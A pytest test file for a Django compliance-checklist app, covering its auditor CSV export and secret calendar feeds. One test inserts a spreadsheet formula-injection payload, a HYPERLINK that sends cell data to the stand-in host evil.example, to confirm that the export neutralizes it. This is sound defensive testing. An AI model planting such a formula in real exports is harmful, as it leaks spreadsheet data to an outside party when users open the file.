"""The CSV export for auditors and the secret iCalendar feeds."""

import csv
import datetime as dt
import io
from urllib.parse import urlsplit

import pytest
from rest_framework.test import APIClient

from obligations.models import CalendarFeed, ChecklistItem, Membership

from .conftest import (
    EXISTING_APP,
    FILING,
    MANAGEMENT,
    create_feed,
    feed_events,
    item_for,
    item_url,
    patch_item,
    report_event,
    url,
)

pytestmark = pytest.mark.django_db

HEADER = [
    "id",
    "instrument",
    "provision",
    "obligation",
    "occurrence",
    "summary_en",
    "quote_zh",
    "phase",
    "kind",
    "applicability",
    "status",
    "due_date",
    "assignee",
    "completed_by",
    "completed_at",
    "justification",
    "evidence",
    "superseded_reason",
]
CHANGE = "cn-deep-synthesis-2022:art19-filing-change-provider"


def export(client, organization, params=None):
    response = client.get(url(organization, "checklist/export/"), params or {})
    assert response.status_code == 200, response.content
    return response


def rows(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.fixture
def launched(shanghai, as_alice, make_user, add_member):
    """Launched on 20 January 2025 and changed its filed information on 3 March; Bob is an officer."""
    launch = report_event(as_alice, shanghai, "service_launched", "2025-01-20")
    change = report_event(as_alice, shanghai, "filing_info_changed", "2025-03-03")
    bob = make_user("bob")
    add_member(shanghai, bob)
    return {
        "filing": item_for(shanghai, FILING, f"event:{launch}"),
        "change": item_for(shanghai, CHANGE, f"event:{change}"),
        "bob": bob,
    }


# --- CSV -----------------------------------------------------------------------------------


def test_export_has_a_bom_a_header_and_one_row_per_visible_item(shanghai, as_alice, launched):
    item = item_for(shanghai, MANAGEMENT)
    patch_item(as_alice, item, {"status": "done"})
    as_alice.post(item_url(item, "evidence/"), {"evidence_date": "2025-03-01", "note": "Policy"})

    response = export(as_alice, shanghai)

    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="checklist-shanghai.csv"'
    exported = rows(response)
    visible = ChecklistItem.objects.filter(organization=shanghai, superseded_at__isnull=True)
    assert sorted(int(r["id"]) for r in exported) == sorted(visible.values_list("pk", flat=True))
    by_id = {int(r["id"]): r for r in exported}
    row = by_id[item.pk]
    assert row["obligation"] == MANAGEMENT
    assert row["quote_zh"] == item.obligation.quote_zh
    assert "深度合成服务提供者应当落实信息安全主体责任" in row["quote_zh"]
    assert (row["status"], row["completed_by"], row["evidence"]) == ("done", "alice", "1")
    assert row["completed_at"]
    filing = by_id[launched["filing"].pk]
    assert (filing["occurrence"], filing["due_date"]) == (f"event:{launched['filing'].event_id}", "2025-02-08")


def test_export_applies_the_list_filters(shanghai, as_alice, launched):
    patch_item(as_alice, launched["change"], {"assignee": launched["bob"].pk})

    assigned = rows(export(as_alice, shanghai, {"assignee": str(launched["bob"].pk)}))
    assert [int(r["id"]) for r in assigned] == [launched["change"].pk]
    assert assigned[0]["assignee"] == "bob"

    dated = rows(export(as_alice, shanghai, {"due_before": "2025-12-31"}))
    assert sorted(int(r["id"]) for r in dated) == sorted([launched["filing"].pk, launched["change"].pk])

    superseded = rows(export(as_alice, shanghai, {"superseded": "true"}))
    assert superseded
    assert all(r["superseded_reason"] for r in superseded)
    assert item_for(shanghai, EXISTING_APP).pk in {int(r["id"]) for r in superseded}

    assert as_alice.get(url(shanghai, "checklist/export/"), {"colour": "red"}).status_code == 400


def test_export_neutralizes_spreadsheet_formulas(shanghai, as_alice):
    item = item_for(shanghai, MANAGEMENT)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    patch_item(as_alice, item, {"status": "not_applicable", "justification": formula})

    (row,) = [r for r in rows(export(as_alice, shanghai)) if int(r["id"]) == item.pk]

    assert not row["justification"].startswith(("=", "+", "-", "@"))


# --- Calendar feeds ------------------------------------------------------------------------


def test_feed_lists_dated_items_as_all_day_events_with_stable_uids(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai, "Everything")
    assert urlsplit(feed["url"]).path.startswith("/calendar/cal_")
    assert urlsplit(feed["url"]).path.endswith(".ics")
    # The secret is shown once.
    listed = as_alice.get(url(shanghai, "calendar-feeds/")).json()["results"]
    assert [f["id"] for f in listed] == [feed["id"]]
    assert "url" not in listed[0]
    assert feed["url"].split("/")[-1].removesuffix(".ics") not in str(listed)

    events = feed_events(feed["url"])

    dated = ChecklistItem.objects.filter(organization=shanghai, due_date__isnull=False)
    assert {f"checklist-item-{i.pk}@testserver" for i in dated} == set(events)
    for item in dated:
        event = events[f"checklist-item-{item.pk}@testserver"]
        start, end = event.decoded("DTSTART"), event.decoded("DTEND")
        assert type(start) is dt.date  # all day, not a date-time
        assert start == item.due_date
        assert end == item.due_date + dt.timedelta(days=1)
        assert event["SEQUENCE"] == item.due_sequence
        assert str(event["STATUS"]) == ("CANCELLED" if item.superseded_at else "CONFIRMED")
        assert item.obligation.quote_zh in str(event["DESCRIPTION"])
        # Named as a person cites it, not by the catalogue's code.
        assert item.obligation.instrument.short_title_en in str(event["SUMMARY"])
        assert item.obligation.instrument.code not in str(event["SUMMARY"])
    filing = events[f"checklist-item-{launched['filing'].pk}@testserver"]
    assert filing.decoded("DTSTART") == dt.date(2025, 2, 8)
    assert feed_events(feed["url"]).keys() == events.keys()  # stable


def test_superseded_items_stay_in_the_feed_as_cancelled(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    uid = f"checklist-item-{launched['change'].pk}@testserver"
    assert str(feed_events(feed["url"])[uid]["STATUS"]) == "CONFIRMED"

    assert as_alice.delete(url(shanghai, f"events/{launched['change'].event_id}/")).status_code == 204

    event = feed_events(feed["url"])[uid]
    assert str(event["STATUS"]) == "CANCELLED"
    existing = item_for(shanghai, EXISTING_APP)  # superseded by the launch date
    assert str(feed_events(feed["url"])[f"checklist-item-{existing.pk}@testserver"]["STATUS"]) == "CANCELLED"


def test_done_items_are_marked_in_the_summary(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    patch_item(as_alice, launched["filing"], {"status": "done"})

    event = feed_events(feed["url"])[f"checklist-item-{launched['filing'].pk}@testserver"]

    assert str(event["SUMMARY"]).startswith("✓ ")
    assert "Status: Done" in str(event["DESCRIPTION"])  # the status's name, not its key


def test_mine_only_feed_has_only_the_members_items(shanghai, alice, as_alice, client_for, launched):
    bob = launched["bob"]
    patch_item(as_alice, launched["change"], {"assignee": bob.pk})
    patch_item(as_alice, launched["filing"], {"assignee": alice.pk})
    as_bob = client_for(bob)

    mine = create_feed(as_bob, shanghai, "Mine", mine_only=True)

    assert mine["member"] == "bob"
    assert set(feed_events(mine["url"])) == {f"checklist-item-{launched['change'].pk}@testserver"}
    everything = create_feed(as_bob, shanghai, "All")
    assert len(feed_events(everything["url"])) > 1
    # Reassigning moves the item out of Bob's feed.
    patch_item(as_alice, launched["change"], {"assignee": None})
    assert feed_events(mine["url"]) == {}


def test_viewers_may_create_feeds(shanghai, make_user, add_member, client_for):
    viewer = make_user("viewer")
    add_member(shanghai, viewer, Membership.Role.VIEWER)
    feed = create_feed(client_for(viewer), shanghai)
    assert APIClient().get(urlsplit(feed["url"]).path).status_code == 200


def test_revoked_and_unknown_feeds_are_404(shanghai, as_alice, launched):
    feed = create_feed(as_alice, shanghai)
    path = urlsplit(feed["url"]).path
    anonymous = APIClient()
    assert anonymous.get(path).status_code == 200

    assert as_alice.delete(url(shanghai, f"calendar-feeds/{feed['id']}/")).status_code == 204

    assert CalendarFeed.objects.get(pk=feed["id"]).revoked_at is not None
    assert anonymous.get(path).status_code == 404
    assert anonymous.get("/calendar/cal_unknown-secret.ics").status_code == 404
    assert anonymous.get(path.replace("cal_", "cal_x")).status_code == 404


def test_another_organizations_feeds_cannot_be_revoked(shanghai, as_alice, make_user, make_organization, client_for):
    feed = create_feed(as_alice, shanghai)
    other_admin = make_user("other-admin")
    other = make_organization(other_admin, "Other")

    response = client_for(other_admin).delete(url(other, f"calendar-feeds/{feed['id']}/"))

    assert response.status_code == 404
    assert CalendarFeed.objects.get(pk=feed["id"]).revoked_at is None


def test_feed_of_a_removed_member_stops_working(shanghai, as_alice, make_user, add_member, client_for):
    mallory = make_user("mallory")
    membership = add_member(shanghai, mallory)
    feed = create_feed(client_for(mallory), shanghai, "Everything")
    path = urlsplit(feed["url"]).path
    assert APIClient().get(path).status_code == 200

    assert as_alice.delete(url(shanghai, f"members/{membership.pk}/")).status_code == 204

    assert APIClient().get(path).status_code == 404


@pytest.mark.parametrize(("language", "status"), [("zh", "状态：待办"), ("en", "Status: Open")])
def test_feed_events_are_in_the_feeds_language(shanghai, as_alice, language, status):
    event_id = report_event(as_alice, shanghai, "service_launched", "2025-01-20")
    item = item_for(shanghai, FILING, f"event:{event_id}")
    response = as_alice.post(url(shanghai, "calendar-feeds/"), {"name": "All", "language": language}, format="json")
    assert response.status_code == 201 and response.json()["language"] == language
    events = feed_events(response.json()["url"])
    event = next(e for e in events.values() if str(e["URL"]).endswith(f"/checklist/{item.pk}/"))
    assert str(event["SUMMARY"]) == item.obligation.title_in(language)
    assert status in str(event["DESCRIPTION"])
    assert item.obligation.summary_in(language) in str(event["DESCRIPTION"])
